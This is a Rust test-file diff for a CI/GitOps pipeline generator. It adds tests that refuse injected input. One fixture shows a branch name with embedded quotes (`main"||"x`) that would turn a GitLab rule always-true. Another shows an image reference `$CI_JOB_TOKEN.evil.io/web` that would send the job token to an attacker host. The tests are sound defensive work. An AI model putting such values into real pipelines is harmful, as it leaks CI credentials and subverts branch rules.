@@ -55,7 +55,11 @@ fn a_value_that_would_split_a_yaml_line_is_refused() {
     let out = run(&dir, &["generate"]);
     assert_code(&out, 2);
     let err = message(&out);
-    assert!(err.contains("would end a YAML key"), "{err}");
+    // The model refuses it at its line; the render stage would refuse it too (`render::escape`).
+    assert!(
+        err.contains("would end or comment out a line") && err.contains("gitops-gen.yaml:10:"),
+        "{err}"
+    );
     assert_eq!(read_tree(&dir), before, "nothing is written");
 }
 
@@ -71,6 +75,58 @@ fn a_github_expression_from_the_model_is_refused() {
     let out = run(&dir, &["generate"]);
     assert_code(&out, 2);
     let err = message(&out);
-    assert!(err.contains("GitHub Actions would evaluate"), "{err}");
+    assert!(
+        err.contains("GitHub Actions would evaluate") && err.contains("gitops-gen.yaml:10:"),
+        "{err}"
+    );
     assert_eq!(read_tree(&dir), before, "nothing is written");
+}
+
+/// GitLab's rule strings have no escapes: a `"` in a branch name must not end the string and
+/// turn the rest of the name into rule logic (`"main"||"x"` is always true).
+#[test]
+fn a_quote_in_a_branch_name_cannot_change_a_gitlab_rule() {
+    let (_tmp, dir) = named_dir("repo");
+    write(
+        &dir,
+        "gitops-gen.yaml",
+        "version: 1\nproject: shop\nci: gitlab\n\
+         gitops: {branch: 'main\"||\"x'}\n\
+         environments:\n\
+         \x20 - {name: staging, branches: ['main\"||\"x']}\n\
+         \x20 - {name: production, branches: ['it''s\"x']}\n\
+         apps:\n  - {name: web}\n",
+    );
+    generate_ok(&dir);
+    let pipeline = read(&dir, ".gitlab-ci.yml");
+    assert!(!pipeline.contains(r#"== \"main\"||"#), "{pipeline}");
+    assert!(
+        pipeline.contains(r#"- if: "$CI_COMMIT_BRANCH == 'main\"||\"x'""#),
+        "a name holding `\"` is single-quoted:\n{pipeline}"
+    );
+    assert!(
+        pipeline.contains(r#"|| $CI_COMMIT_BRANCH == 'main\"||\"x'""#),
+        "the manual rule quotes gitops.branch the same way:\n{pipeline}"
+    );
+    assert!(
+        pipeline.contains(r#"- if: "$CI_COMMIT_BRANCH =~ /^it's\"x$/""#),
+        "a name holding both quotes is matched by an anchored regex:\n{pipeline}"
+    );
+}
+
+/// GitLab expands `$NAME` in `variables:` and `image:`; an image there could carry the job
+/// token to another host. The model refuses it at its line whatever the CI.
+#[test]
+fn a_variable_in_an_image_is_refused_for_gitlab_too() {
+    let (_tmp, dir) = named_dir("repo");
+    let text = model(r#"image: "$CI_JOB_TOKEN.evil.io/web""#).replace("ci: both", "ci: gitlab");
+    write(&dir, "gitops-gen.yaml", &text);
+    let out = run(&dir, &["generate"]);
+    assert_code(&out, 2);
+    let err = message(&out);
+    assert!(
+        err.contains("is not a valid image repository") && err.contains("gitops-gen.yaml:10:"),
+        "{err}"
+    );
+    assert_eq!(list_files(&dir), ["gitops-gen.yaml"]);
 }
